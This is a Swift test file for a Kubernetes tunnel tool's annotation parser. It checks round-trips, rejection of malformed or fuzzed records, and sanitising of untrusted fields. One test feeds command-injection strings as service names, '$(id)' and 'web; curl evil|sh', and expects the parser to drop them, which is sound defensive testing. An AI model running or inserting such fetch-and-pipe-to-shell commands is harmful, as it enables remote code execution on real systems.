import InterceptMachine
import KubeObjects
import TestSupport
import Testing

@testable import Intercept

/// Anyone who may edit the namespace can write the annotation.
struct ClaimsRecordTests {
  private static func read(_ text: String?) -> Claims? {
    var deployment: JSONValue = ["metadata": ["name": "devtunnel-web"]]
    if let text { deployment.annotations = [ClaimsRecord.annotation: text] }
    return ClaimsRecord.read(deployment)
  }

  @Test("Claims survive their text")
  func roundTrip() {
    var claims = Claims(
      ports: [
        8080: Claim(holder: "alice@laptop_1a", services: ["web", "web-alt"], count: 3, since: "2026-01-02T03:04:05Z"),
        9090: Claim(holder: "b\"o\\b\n@desk", services: ["admin"], count: 4),
      ], count: 4)
    #expect(Self.read(ClaimsRecord.text(claims)) == claims)
    claims = Claims(count: 7, closer: "alice@laptop")
    #expect(Self.read(ClaimsRecord.text(claims)) == claims)
    #expect(Self.read(ClaimsRecord.text(Claims())) == Claims())
  }

  @Test(
    "Anything that is no record is not taken for claims",
    arguments: [
      nil, "", "{", "null", "[]", "7", "\"x\"", "{}", #"{"ports":null}"#, #"{"ports":[]}"#, #"{"ports":"8080"}"#,
      #"{"count":1,"closer":"alice@laptop"}"#, #"{"ports":{"":{"holder":"a"}}}"#, #"{"ports":{"0":{"holder":"a"}}}"#,
      #"{"ports":{"-1":{"holder":"a"}}}"#, #"{"ports":{"65536":{"holder":"a"}}}"#, #"{"ports":{"web":{"holder":"a"}}}"#,
      #"{"ports":{"8080":null}}"#, #"{"ports":{"8080":"a"}}"#, #"{"ports":{"8080":{}}}"#,
      #"{"ports":{"8080":{"holder":""}}}"#, #"{"ports":{"8080":{"holder":7}}}"#,
      #"{"ports":{"8080":{"holder":"a"},"x":{"holder":"a"}}}"#, String(repeating: "[", count: 100_000), "\u{0}",
    ] as [String?])
  func noRecord(text: String?) { #expect(Self.read(text) == nil) }

  @Test("Fields of a record beside its holders are made harmless")
  func harmless() throws {
    let claims = try #require(
      Self.read(
        #"{"count":-5,"closer":7,"ports":{"8080":{"holder":"a","count":9223372036854775807,"since":[],"#
          + #""services":["web","$(id)","",7,"web; curl evil|sh","Web"]},"9090":{"holder":"b","services":"x"}}}"#))
    #expect(claims.count == 0 && claims.closer == nil)
    #expect(claims.ports[8080] == Claim(holder: "a", services: ["web"], count: UInt64(Int32.max)))
    #expect(claims.ports[9090] == Claim(holder: "b", services: [], count: 0))
    for count in ["1e400", "1e30", "-1e30", "1.5", "99999999999999999999999", "null", "\"7\""] {
      _ = Self.read(#"{"ports":{"8080":{"holder":"a","count":\#(count)}},"count":\#(count)}"#)
    }
  }

  @Test("Damaged records are read without a trap")
  func damaged() {
    var generator = SeededGenerator(seed: 5)
    let whole = Array(
      ClaimsRecord.text(
        Claims(
          ports: [8080: Claim(holder: "a", services: ["web"], count: 3)],
          personal: [8080: [Claim(holder: "b", services: ["web"], count: 2, rules: ["path /"])]], count: 3, closer: "a")
      ).utf8)
    for _ in 0..<20_000 {
      var bytes = whole
      for _ in 0...Int.random(in: 0..<4, using: &generator) {
        let index = Int.random(in: bytes.indices, using: &generator)
        switch Int.random(in: 0..<3, using: &generator) {
        case 0: bytes[index] = UInt8.random(in: .min ... .max, using: &generator)
        case 1: if bytes.count > 1 { bytes.remove(at: index) }
        default: bytes.insert(bytes.randomElement(using: &generator) ?? 0, at: index)
        }
      }
      guard let claims = Self.read(String(decoding: bytes, as: UTF8.self)) else { continue }
      #expect(claims.ports.allSatisfy { $0.key > 0 && !$0.value.holder.isEmpty && $0.value.count <= UInt64(Int32.max) })
    }
  }

  private static let personal = Claims(
    ports: [8080: Claim(holder: "alice@laptop", services: ["web"], count: 1)],
    personal: [
      8080: [
        Claim(
          holder: "bob@desk", services: ["web"], count: 2, since: "2026-01-02T03:04:05Z",
          rules: ["header x-devtunnel=bob\nmethod GET", "path /api/*"]),
        Claim(holder: "carol@tower", services: ["web"], count: 3, rules: ["cookie a=b"]),
      ],
      9090: [Claim(holder: "bob@desk", services: ["admin"], count: 4, rules: ["path /x"])],
    ], count: 4)

  @Test("Rules survive their text; a record without any is as before")
  func rules() {
    #expect(Self.read(ClaimsRecord.text(Self.personal)) == Self.personal)
    #expect(!ClaimsRecord.text(Claims(count: 1)).contains("personal"))
  }

  @Test(
    "Entries without a rule that can be read count for nothing; those without a holder make no record",
    arguments: [
      (#"{"ports":{},"personal":[]}"#, 0), (#"{"ports":{},"personal":{"8080":7}}"#, 0),
      (#"{"ports":{},"personal":{"8080":[{"holder":"a"}]}}"#, 0),
      (#"{"ports":{},"personal":{"8080":[{"holder":"a","rules":["host /"]}]}}"#, 0),
      (#"{"ports":{},"personal":{"8080":[{"holder":"a","rules":["",7,"path /"]}]}}"#, 1),
      (#"{"ports":{},"personal":{"8080":[{"holder":"","rules":["path /"]}]}}"#, nil),
      (#"{"ports":{},"personal":{"0":[{"holder":"a","rules":["path /"]}]}}"#, nil),
    ] as [(String, Int?)])
  func wrongRules(text: String, count: Int?) {
    #expect(Self.read(text)?.personal.values.flatMap(\.self).count == count)
  }
}
